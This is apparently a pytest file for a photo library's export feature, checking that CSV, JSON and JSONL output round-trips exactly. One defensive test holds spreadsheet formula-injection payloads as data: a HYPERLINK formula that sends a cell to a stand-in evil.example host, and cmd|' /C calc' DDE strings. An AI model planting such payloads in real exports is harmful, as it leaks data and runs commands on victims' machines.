"""Export formats: files a spreadsheet or a script reads back exactly as the index held them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from test_bad_input import StandIn, photo

from photobatch.cli import cli
from photobatch.core.config import load_config
from photobatch.core.hooks import exporters
from photobatch.core.records import Post
from photobatch.library.index import Index
from photobatch.plugins.export import CsvExporter, JsonExporter, JsonLinesExporter
from photobatch.scan.pipeline import Scanner

COLUMNS = ["path", "status", "caption", "hashtags", "lat"]

ROWS: list[dict[str, Any]] = [
    {
        "path": "/photos/a, b.jpg",
        "status": "ok",
        "caption": 'She said "cheese"',
        "hashtags": "#dog #beach",
        "lat": 43.25,
    },
    {
        "path": "/photos/multi\nline.jpg",
        "status": "ok",
        "caption": "Ein Hund — 海辺の犬 🐕\r\nsecond line",
        "hashtags": "#café",
        "lat": None,
    },
    {"path": "/photos/broken.jpg", "status": "error", "caption": None, "hashtags": "", "lat": None},
]


def export_to_file(fmt: str, rows: list[dict[str, Any]], path: Path) -> int:
    """Export as the CLI does with ``-o``."""
    with open(path, "w", encoding="utf-8", newline="") as out:
        return exporters()[fmt].export(iter(rows), COLUMNS, out)


def test_exporters_are_discovered() -> None:
    assert {"csv", "json", "jsonl"} <= exporters().keys()


def test_csv_reads_back_identically(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert export_to_file("csv", ROWS, path) == 3
    with open(path, encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames == COLUMNS
        back = list(reader)
    expected = [{c: "" if r[c] is None else str(r[c]) for c in COLUMNS} for r in ROWS]
    assert back == expected


@settings(max_examples=50, deadline=None)
@given(
    st.lists(
        st.fixed_dictionaries(
            {c: st.none() | st.text(st.characters(blacklist_characters="\x00")) for c in COLUMNS}
        ),
        max_size=5,
    )
)
def test_csv_round_trips_any_text(rows: list[dict[str, Any]]) -> None:
    out = io.StringIO(newline="")
    assert CsvExporter().export(rows, COLUMNS, out) == len(rows)
    back = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert back == [{c: as_text(r[c]) for c in COLUMNS} for r in rows]


def as_text(value: str | None) -> str:
    """A cell as a spreadsheet shows it: formula-like text is kept as text behind a ``'``."""
    if value and value[0] in "=+-@\t\r":
        return "'" + value
    return value or ""


# What an attacker puts in EXIF fields or an Instagram caption for a spreadsheet to run.
FORMULAS = {
    "camera_make": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "camera_model": "+cmd|' /C calc'!A0",
    "lens": "@SUM(1+1)*cmd|' /C calc'!A0",
    "caption": "-2+3+cmd|' /C calc'!A0",
}


def test_formula_injection_is_neutralised_in_csv_only(tmp_path: Path, research_data: Path) -> None:
    root = tmp_path / "photos"
    root.mkdir()
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = FORMULAS["camera_make"], FORMULAS["camera_model"]
    exif.get_ifd(0x8769)[0xA434] = FORMULAS["lens"]
    photo(research_data, "DSCN0010.jpg").save(root / "a.jpg", exif=exif)
    photo(research_data, "DSCN0012.jpg").save(root / "b.jpg")
    index_path = tmp_path / "index.db"
    config = load_config(None, index=index_path)
    index = Index(config.index)
    Scanner(config, index, progress=False, analyzer_factory=StandIn).scan([root])
    index.write_posts([Post("1", None, FORMULAS["caption"], []), Post("2", None, "\tx", [])])

    def export(*args: str) -> str:
        result = CliRunner().invoke(cli, ["--index", str(index_path), "export", *args])
        assert result.exit_code == 0, result.output
        return result.output

    photos = {
        Path(r["path"]).name: r for r in csv.DictReader(io.StringIO(export("--format", "csv")))
    }
    for column in ("camera_make", "camera_model", "lens"):
        assert photos["a.jpg"][column] == "'" + FORMULAS[column]
    assert photos["a.jpg"]["caption"] == photos["b.jpg"]["caption"] == "a cat on a mat"
    posts = list(csv.DictReader(io.StringIO(export("--table", "posts", "--format", "csv"))))
    assert [p["caption"] for p in posts] == ["'" + FORMULAS["caption"], "'\tx"]

    exact = {Path(r["path"]).name: r for r in json.loads(export("--format", "json"))}
    assert {c: exact["a.jpg"][c] for c in ("camera_make", "camera_model", "lens")} == {
        c: FORMULAS[c] for c in ("camera_make", "camera_model", "lens")
    }
    lines = export("--table", "posts", "--format", "jsonl").splitlines()
    assert [json.loads(line)["caption"] for line in lines] == [FORMULAS["caption"], "\tx"]


def test_json_is_one_array_in_column_order(tmp_path: Path) -> None:
    path = tmp_path / "out.json"
    assert export_to_file("json", ROWS, path) == 3
    text = path.read_text(encoding="utf-8")
    assert "海辺の犬 🐕" in text  # not \\u-escaped
    back = json.loads(text)
    assert back == ROWS
    assert [list(row) for row in back] == [COLUMNS] * 3


def test_jsonl_is_one_object_per_line(tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    assert export_to_file("jsonl", ROWS, path) == 3
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 3
    assert [json.loads(line) for line in lines] == ROWS
    assert "café" in lines[1]


def test_no_rows() -> None:
    out = io.StringIO()
    assert JsonExporter().export([], COLUMNS, out) == 0
    assert json.loads(out.getvalue()) == []
    out = io.StringIO()
    assert JsonLinesExporter().export([], COLUMNS, out) == 0
    assert out.getvalue() == ""


def test_keys_follow_columns_and_missing_ones_are_null() -> None:
    out = io.StringIO()
    JsonLinesExporter().export([{"lat": 1.5, "path": "p"}], ["path", "lat", "caption"], out)
    assert out.getvalue() == '{"path": "p", "lat": 1.5, "caption": null}\n'


class WriteSizes(io.StringIO):
    """Records the largest single write, to show output is streamed rather than built whole."""

    largest = 0

    def write(self, s: str) -> int:
        self.largest = max(self.largest, len(s))
        return len(s)


def many_rows(n: int) -> Iterator[dict[str, Any]]:
    for i in range(n):
        yield {"path": f"/photos/{i:06}.jpg", "status": "ok", "caption": "a dog", "lat": i / 7}


@pytest.mark.parametrize("exporter", [JsonExporter(), JsonLinesExporter(), CsvExporter()])
def test_large_exports_are_streamed(exporter: Any) -> None:
    sink = WriteSizes()
    assert exporter.export(many_rows(100_000), COLUMNS, sink) == 100_000
    assert sink.largest < 200


def test_hashtag_scores_are_an_object_in_json_and_json_text_in_csv(tmp_path: Path) -> None:
    """A JSON export stored them as a JSON string inside JSON: a script had to decode twice."""
    from photobatch.core.records import Analysis, FoundFile, PhotoMetadata, PhotoRow

    scores = {"pizza": 0.9, "café": 0.55}
    with Index(tmp_path / "index.db") as index:
        found = FoundFile(Path("/photos/a.jpg"), 1, 1)
        analysis = Analysis("a" * 64, caption="a pizza", hashtags=list(scores))
        analysis.hashtag_scores = scores
        index.write_batch([PhotoRow(found, "ok", "a" * 64, PhotoMetadata())], [analysis])
        broken = FoundFile(Path("/photos/b.jpg"), 1, 1)
        index.write_batch([PhotoRow(broken, "error", error="not an image")], [])

    def export(fmt: str) -> str:
        args = ["--index", str(tmp_path / "index.db"), "export", "--format", fmt]
        result = CliRunner().invoke(cli, args)
        assert result.exit_code == 0, result.output
        return result.output

    assert [r["hashtag_scores"] for r in json.loads(export("json"))] == [scores, None]
    lines = export("jsonl").splitlines()
    assert [json.loads(line)["hashtag_scores"] for line in lines] == [scores, None]
    cells = [r["hashtag_scores"] for r in csv.DictReader(io.StringIO(export("csv")))]
    assert [json.loads(cells[0]), cells[1]] == [scores, ""]
